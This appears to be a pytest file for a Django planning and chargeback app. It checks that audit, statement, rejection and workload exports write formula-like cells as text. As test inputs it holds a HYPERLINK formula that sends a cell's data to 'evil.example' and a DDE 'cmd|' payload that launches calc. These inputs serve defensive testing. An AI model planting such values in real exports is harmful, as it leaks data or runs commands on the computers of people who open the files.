"""The audit export is opened in a spreadsheet by admins and finance. Its cells carry text any planner
types (a design's name or description, a report's narrative): one starting with '=' (or '+', '-', '@')
was written as is, so the spreadsheet ran it as a formula (=HYPERLINK to send the sheet's cells away,
=cmd|... in older Excel). Such cells are now written as text (a leading apostrophe, OWASP's advice);
numbers, negative ones included, are left alone."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from auditlog.context import set_actor
from django.test import Client

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'


def test_a_planners_formula_in_a_design_name_is_exported_as_text(planner_user: Any, admin_user: Any) -> None:
    from planner.models import Design

    with set_actor(planner_user):
        design = Design.objects.create(name="Nexus 2026", scenario_yaml="a: 1", scenario={"a": 1})
        design.name = FORMULA
        design.description = "@SUM(1+1)*cmd|' /C calc'!A0"
        design.save()
    client = Client()
    client.force_login(admin_user)
    body = b"".join(client.get("/audit/export.csv").streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not any(cell[:1] in ("=", "+", "@") for cell in cells), [c for c in cells if c[:1] in "=+@"]
    renamed = next(row for row in rows if row[8] == "name" and row[10].endswith(FORMULA))
    assert renamed[9] == "Nexus 2026"


def test_numbers_are_not_touched() -> None:
    from planner.web.spreadsheet import spreadsheet_safe

    assert spreadsheet_safe("-12.5") == "-12.5" and spreadsheet_safe("+3") == "+3"
    assert spreadsheet_safe("-x") == "'-x" and spreadsheet_safe("plain") == "plain" and spreadsheet_safe("") == ""


def test_a_formula_in_a_mapped_project_name_reaches_finances_statement_as_text(
        departments: Any, finance_user: Any, tmp_path: Any) -> None:
    """Project and PI names come from the identity mappings file; the statement's CSV wrote them as is and
    its Excel workbook (openpyxl) stored a leading '=' as a live formula."""
    from openpyxl import load_workbook

    from forecasts.chargeback.services import statements_compute
    from tests.forecasts.chargeback_data import ingest_lines, map_accounts, minerva_plan, sacct_line

    ingest_lines([sacct_line(101, user="gina", account="autism-wgs", group="ggs", cores=4)], tmp_path)
    map_accounts([("autism-wgs", "ggs", FORMULA)])
    minerva_plan()
    from datetime import date

    statement = next(s for s in statements_compute(month=date(2024, 3, 1)).statements if s.department.code == "ggs")
    client = Client()
    client.force_login(finance_user)
    rows = list(csv.reader(io.StringIO(client.get(f"/chargeback/statements/{statement.pk}.csv").content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and not any(c.startswith("=") for c in cells)
    book = load_workbook(io.BytesIO(client.get(f"/chargeback/statements/{statement.pk}.xlsx").content))
    sheet = book.active
    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert all(str(f).startswith("=SUM(") for f in formulas), formulas  # only the total
    assert FORMULA in [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s"]


def test_text_from_the_accounting_logs_reaches_every_csv_export_as_text(
        departments: Any, planner_user: Any, tmp_path: Any) -> None:
    """Job lines are written by any user of a cluster (a job name, an account, a queue): a rejected line's raw
    text, a queue or a user name that starts like a formula was written as is into the rejections, workload and
    usage CSVs that a planner opens in a spreadsheet. Every export goes through planner.web.spreadsheet."""
    from forecasts.accounting.models import IngestRun
    from tests.forecasts.chargeback_data import ingest_lines, sacct_line

    good = sacct_line(101, user="gina", account="autism-wgs", group="ggs", partition="=2+5", cores=4)
    ingest_lines([good, FORMULA + "|not|a|sacct|line\n"], tmp_path)
    run = IngestRun.objects.get()
    assert run.rejected == 1
    client = Client()
    client.force_login(planner_user)
    exports = {
        "rejections": b"".join(client.get(f"/usage/ingest/{run.pk}/rejections.csv").streaming_content).decode(),
        "workload": client.get("/usage/workload/wait.csv").content.decode(),
    }
    for name, body in exports.items():
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        assert cells and not any(cell[:1] in ("=", "+", "@") for cell in cells), (name, cells)
    assert any(c.startswith("'" + FORMULA) for row in csv.reader(io.StringIO(exports["rejections"])) for c in row)
    assert any(c == "'=2+5" for row in csv.reader(io.StringIO(exports["workload"])) for c in row)
